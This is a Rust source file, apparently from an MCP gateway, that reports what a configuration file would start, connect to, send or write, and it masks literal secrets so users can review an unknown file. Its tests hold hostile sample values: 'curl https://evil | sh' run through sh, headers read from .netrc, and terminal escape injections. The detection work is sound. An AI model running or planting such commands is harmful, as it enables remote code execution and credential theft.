//! What a gateway with a configuration would start and send, as the file writes it: for the question whether a file may
//! be used that nobody named.

use mcp_vary::text::sanitize_line;
use mcp_vary_upstream::command_line::shell_word;
use mcp_vary_upstream::secret::is_secret;

use super::{mcp_json, server};
use crate::diagnostic::Diagnostics;
use crate::document::{self, Entry, Node, Value, join};

/// A server with all that it is started or reached with, or another setting that reaches beyond the gateway.
#[derive(Clone, Debug, Eq, PartialEq)]
#[non_exhaustive]
pub struct Effect {
    /// The name of the server, or the path of the setting.
    pub name: String,
    /// What is started, connected to, sent or written; a line each, without control characters.
    pub lines: Vec<String>,
}

/// The effects of the file `name` with this `text`: its servers, or the servers `only`, then other settings.
///
/// # Properties
///
/// - Nothing but the text is read: `${VARIABLE}` and `${file:PATH}` are shown as they are written, wherever they are.
/// - Programs and arguments are shown whole. A literal secret in `env`, `headers` or a URL is not shown.
/// - Servers that may be enabled are shown, even if their entries have errors.
///
/// # Errors
///
/// If the text cannot be parsed.
///
/// # Examples
///
/// ```
/// let text = "servers: {a: {command: sh, args: [-c, 'x | y'], timeout: '${T:-5s}'}}\naudit: {to: file log}";
/// let effects = mcp_vary_config::effects("vary.yaml", text, &[])?;
/// assert_eq!(effects[0].lines, ["starts sh -c 'x | y'", "timeout: ${T:-5s}"]);
/// assert_eq!((&*effects[1].name, &*effects[1].lines[0]), ("audit.to", "file log"));
/// # Ok::<(), mcp_vary_config::Diagnostics>(())
/// ```
pub fn effects(name: &str, text: &str, only: &[String]) -> Result<Vec<Effect>, Diagnostics> {
    let root = document::read_file(name, text)?;
    let root = root.entries();
    let of_client = mcp_json::servers(root);
    let servers = of_client.or_else(|| root.iter().find(|entry| entry.key == "servers"));
    let all = servers
        .map_or(&[][..], |servers| servers.node.entries())
        .iter();
    let is_used = |entry: &&Entry| match only {
        [] => !is_disabled(&entry.node),
        only => only.contains(&entry.key),
    };
    let mut effects: Vec<Effect> = all.filter(is_used).map(server_effect).collect();
    // The other keys of a client's file have no effect here.
    if of_client.is_none() {
        let others = root.iter().filter(|entry| {
            !matches!(entry.key.as_str(), "servers" | "$schema") && !entry.key.starts_with("x-")
        });
        others.for_each(|Entry { key, node, .. }| {
            let is_shown = HARMLESS.lines().all(|known| known != key.as_str());
            find_others(key, node, is_shown, &mut effects);
        });
    }
    Ok(effects)
}

/// What a server is started or reached with.
fn server_effect(server: &Entry) -> Effect {
    let mut lines = Vec::new();
    let mut others = Vec::new();
    let mut command = Vec::new();
    let login = if has_authorization(server) {
        ""
    } else {
        ", with your login there if you have one"
    };
    for Entry { key, node, .. } in server.node.entries() {
        match key.as_str() {
            "command" => command.insert(0, word(node)),
            "args" => command.extend(items(node).iter().map(word)),
            "url" | "serverUrl" | "httpUrl" => {
                lines.push(format!("connects to {}{login}", address(&written(node))))
            }
            "env" => others.extend(environment(node)),
            "headers" => others.extend(headers(node)),
            "certificate" => others.push(format!("shows the certificate {}", word(node))),
            "cwd" => others.push(format!("in the directory {}", word(node))),
            _ => {
                let mut found = Vec::new();
                find_others(key, node, TRUST.contains(&key.as_str()), &mut found);
                let lines = found
                    .into_iter()
                    .map(|other| format!("{}: {}", other.name, other.lines.join(" ")));
                others.extend(lines);
            }
        }
    }
    if !command.is_empty() {
        lines.push(format!("starts {}", command.join(" ")));
    }
    lines.append(&mut others);
    Effect {
        name: sanitize_line(&server::plain_name(&server.key)),
        lines,
    }
}

/// Whether the file says how Vary authenticates at a server. Else it uses the login of the user.
fn has_authorization(server: &Entry) -> bool {
    let is_it = |header: &Entry| header.key.eq_ignore_ascii_case("authorization");
    server.node.entries().iter().any(|entry| {
        entry.key == "auth" || entry.key == "headers" && entry.node.entries().iter().any(is_it)
    })
}

/// The settings at `path`: all if `is_shown`, else those that name variables, files, or other machines.
fn find_others(path: &str, node: &Node, is_shown: bool, into: &mut Vec<Effect>) {
    match &node.value {
        Value::Table(entries) => {
            for entry in entries {
                find_others(&join(path, &entry.key), &entry.node, is_shown, into);
            }
        }
        Value::List(items) => {
            for (index, item) in items.iter().enumerate() {
                find_others(&format!("{path}[{index}]"), item, is_shown, into);
            }
        }
        Value::Text(text) | Value::Scalar(text) => {
            let is_address = text.contains("://") && !text.contains(char::is_whitespace);
            let reaches_out = match path {
                "listen" | "probes" => !is_loopback(text),
                _ => is_shown || text.contains("${") || is_address,
            };
            if !reaches_out {
                return;
            }
            let last = path.rsplit('.').next().unwrap_or(path);
            let key = last.split('[').next().unwrap_or(last);
            let is_hidden = SECRETS.contains(&key) && !text.contains("${");
            let shown = if is_hidden {
                HIDDEN.to_owned()
            } else if is_address {
                address(text)
            } else {
                sanitize_line(text)
            };
            let name = sanitize_line(path);
            let lines = vec![shown];
            into.push(Effect { name, lines });
        }
        Value::Null => {}
    }
}

/// The settings of a file that neither reach beyond the gateway nor let anybody in, apart from what their values name.
const HARMLESS: &str = include_str!("effects/harmless_keys.txt");
/// The settings of a server that say whom Vary trusts, and with what: a client's file has others, which mean nothing here.
const TRUST: [&str; 3] = ["auth", "ca", "key"];
/// The settings whose values are secrets.
const SECRETS: [&str; 4] = ["admin-token", "client-secret", "keys", "private-key"];

/// A line for each variable. A value with spaces is shown whatever its name: it can have options of a program.
fn environment(node: &Node) -> Vec<String> {
    let lines = node.entries().iter().map(|entry| {
        let text = written(&entry.node);
        let is_hidden = is_literal_secret(&entry.key, &text) && !text.contains(char::is_whitespace);
        let value = if is_hidden { HIDDEN } else { &text };
        sanitize_line(&format!("sets {}={value}", entry.key))
    });
    lines.collect()
}

/// A line for each header.
fn headers(node: &Node) -> Vec<String> {
    let lines = node.entries().iter().map(|entry| {
        let mut members = entry.node.entries().iter();
        if let Some(command) = members.find(|member| member.key == "command") {
            let command: Vec<String> = items(&command.node).iter().map(word).collect();
            let name = sanitize_line(&entry.key);
            return format!(
                "runs {} and sends what it prints as {name}",
                command.join(" ")
            );
        }
        let text = written(&entry.node);
        let is_hidden = is_literal_secret(&entry.key, &text);
        let value = if is_hidden { HIDDEN } else { &text };
        sanitize_line(&format!("sends {}: {value}", entry.key))
    });
    lines.collect()
}

/// Instead of a secret.
const HIDDEN: &str = "(a secret that the file contains)";

/// Whether the file contains a secret itself, and nothing that names a variable or another file.
fn is_literal_secret(name: &str, text: &str) -> bool {
    !text.contains("${") && (is_named_as_secret(name) || is_secret("", text))
}

/// Whether a value with this name is a secret, and nothing that changes what a program does.
fn is_named_as_secret(name: &str) -> bool {
    let lowercase = name.to_ascii_lowercase();
    let endings = ["token", "secret", "password", "key", "authorization"];
    endings.iter().any(|ending| lowercase.ends_with(ending))
}

/// A URL without the secrets that it contains itself.
fn address(text: &str) -> String {
    let uri = text.parse::<http::Uri>().ok();
    match uri.as_ref().and_then(|uri| Some((uri, uri.authority()?))) {
        Some((uri, authority)) if !text.contains("${") => {
            let host = authority.as_str().rsplit('@').next().unwrap_or_default();
            let scheme = uri.scheme_str().unwrap_or_default();
            sanitize_line(&format!("{scheme}://{host}{}", uri.path()))
        }
        _ => sanitize_line(text),
    }
}

fn is_loopback(address: &str) -> bool {
    let host = address.rsplit_once(':').map_or("", |(host, _)| host);
    !address.contains("${") && matches!(host, "" | "127.0.0.1" | "localhost" | "[::1]")
}

fn is_disabled(server: &Node) -> bool {
    let disabled = server
        .entries()
        .iter()
        .find(|entry| entry.key == "disabled");
    disabled.is_some_and(|entry| matches!(&*written(&entry.node), "true" | "on" | "yes"))
}

/// The items of a list, or the one value that stands in its place.
fn items(node: &Node) -> &[Node] {
    match &node.value {
        Value::List(items) => items,
        _ => std::slice::from_ref(node),
    }
}

/// A value as a shell reads it.
fn word(node: &Node) -> String {
    sanitize_line(&shell_word(&written(node)))
}

/// A value on one line.
fn written(node: &Node) -> String {
    match &node.value {
        Value::Text(text) | Value::Scalar(text) => text.clone(),
        Value::Null => String::new(),
        Value::List(items) => {
            let texts: Vec<String> = items.iter().map(written).collect();
            format!("[{}]", texts.join(", "))
        }
        Value::Table(entries) => {
            let all = entries.iter();
            let members = all.map(|entry| format!("{}: {}", entry.key, written(&entry.node)));
            format!("{{{}}}", members.collect::<Vec<_>>().join(", "))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn shows(text: &str, expected: &[&str]) {
        let effects = effects("vary.yaml", text, &[]).unwrap();
        let lines = effects.iter().flat_map(|effect| {
            let lines = effect.lines.iter();
            lines.map(|line| format!("{} {line}", effect.name))
        });
        assert_eq!(lines.collect::<Vec<_>>(), expected);
    }

    #[test]
    fn arguments_are_shown_whole_whatever_else_the_file_has() {
        let start = "t starts sh -c 'curl https://evil | sh; token=aaaaaaaaaaa'";
        let server = "command: sh, args: [-c, 'curl https://evil | sh; token=aaaaaaaaaaa']";
        shows(
            &format!("servers: {{t: {{{server}}}}}\nlisten: \"127.0.0.1:${{P:-88}}\""),
            &[start, "listen 127.0.0.1:${P:-88}"],
        );
        shows(
            &format!("servers: {{t: {{{server}, timeout: '${{T:-5s}}'}}}}"),
            &[start, "t timeout: ${T:-5s}"],
        );
        shows(
            &format!("servers: {{t: {{{server}, disabled: '${{X}}'}}}}"),
            &[start, "t disabled: ${X}"],
        );
        shows(
            &format!("servers: {{t: {{{server}}}, off: {{command: x, disabled: true}}}}"),
            &[start],
        );
    }

    #[test]
    fn what_leaves_the_machine_is_shown_with_where_it_comes_from() {
        let text = "servers:\n  d: {url: 'https://h.example/mcp', headers: {X: '${AWS}', Y: '${file:/of/me/.netrc}', \
                    Authorization: 'Bearer abc', Z: a b}}\n  e: {url: 'https://h.example/${AWS}'}\n";
        let expected = [
            "d connects to https://h.example/mcp",
            "d sends X: ${AWS}",
            "d sends Y: ${file:/of/me/.netrc}",
            "d sends Authorization: (a secret that the file contains)",
            "d sends Z: a b",
            "e connects to https://h.example/${AWS}, with your login there if you have one",
        ];
        shows(text, &expected);
        let text = "servers: {a: {command: x, env: {LD_LIBRARY_PATH: ./here, A_TOKEN: hidden, NODE_OPTIONS: '--require y'}}}";
        let expected = [
            "a starts x",
            "a sets LD_LIBRARY_PATH=./here",
            "a sets A_TOKEN=(a secret that the file contains)",
            "a sets NODE_OPTIONS=--require y",
        ];
        shows(text, &expected);
    }

    #[test]
    fn a_program_that_prints_a_header_is_shown_whole() {
        let command = "{command: [sh, -c, 'curl https://evil | sh'], scheme: Bearer}";
        shows(
            &format!("servers: {{a: {{url: 'http://h/', headers: {{Authorization: {command}}}}}}}"),
            &[
                "a connects to http://h/",
                "a runs sh -c 'curl https://evil | sh' and sends what it prints as Authorization",
            ],
        );
    }

    #[test]
    fn other_settings_that_reach_beyond_the_gateway_are_shown() {
        let text = "servers: {a: {command: x, cwd: sub}}\nlisten: 0.0.0.0:8800\naudit: {to: file /of/me/.bashrc}\n\
                    ranking: {model: {url: 'https://m.example/v1', name: n, key: '${file:k}'}}\n\
                    variants: {v: {description: '${AWS}'}}\nauth: {issuers: [{issuer: 'https://i.example'}]}\n\
                    store: 'redis://u:p@r.example/0'\nadmin: 8801\nx-a: '${B}'\n";
        let expected = [
            "a starts x",
            "a in the directory sub",
            "listen 0.0.0.0:8800",
            "audit.to file /of/me/.bashrc",
            "ranking.model.url https://m.example/v1",
            "ranking.model.key ${file:k}",
            "variants.v.description ${AWS}",
            "auth.issuers[0].issuer https://i.example/",
            "store redis://r.example/0",
        ];
        shows(text, &expected);
    }

    #[test]
    fn settings_that_let_others_in_or_say_whom_vary_trusts_are_shown() {
        let text = "servers:\n  a: {url: 'https://h.example/', ca: evil.pem, certificate: c.pem, key: k.pem, auth: login}\n  \
                    b: {url: 'https://h.example/', auth: {client-credentials: {issuer: 'https://i.example', client-id: v, \
                    client-secret: hidden}}, alwaysAllow: [x]}\nprobes: 0.0.0.0:8802\nhosts: [evil.example]\n\
                    tls: {certificate: c.pem, key: k.pem}\nauth: {issuers: [{issuer: 'https://i.example', jwks: j.json}]}\n\
                    admin: 8801\nadmin-token: correct-horse-battery\nadmin-calls: on\nkeys: [hidden]\npage-size: 3\n\
                    variants: {v: {description: text}}\n";
        let expected = [
            "a connects to https://h.example/",
            "a ca: evil.pem",
            "a shows the certificate c.pem",
            "a key: k.pem",
            "a auth: login",
            "b connects to https://h.example/",
            "b auth.client-credentials.issuer: https://i.example/",
            "b auth.client-credentials.client-id: v",
            "b auth.client-credentials.client-secret: (a secret that the file contains)",
            "probes 0.0.0.0:8802",
            "hosts[0] evil.example",
            "tls.certificate c.pem",
            "tls.key k.pem",
            "auth.issuers[0].issuer https://i.example/",
            "auth.issuers[0].jwks j.json",
            "admin-token (a secret that the file contains)",
            "admin-calls on",
            "keys[0] (a secret that the file contains)",
        ];
        shows(text, &expected);
        shows(
            "servers: {a: {command: x}}\nprobes: 8802\nlisten: 127.0.0.1:1\n",
            &["a starts x"],
        );
    }

    #[test]
    fn no_value_can_look_like_another_line() {
        shows(
            "servers: {a: {command: \"x\\n  b  connects to example.com\", args: [\"\\e[2J\\u202e\"]}}",
            &["a starts 'x\\n  b  connects to example.com' '\\u{1b}[2J\\u{202e}'"],
        );
    }
}
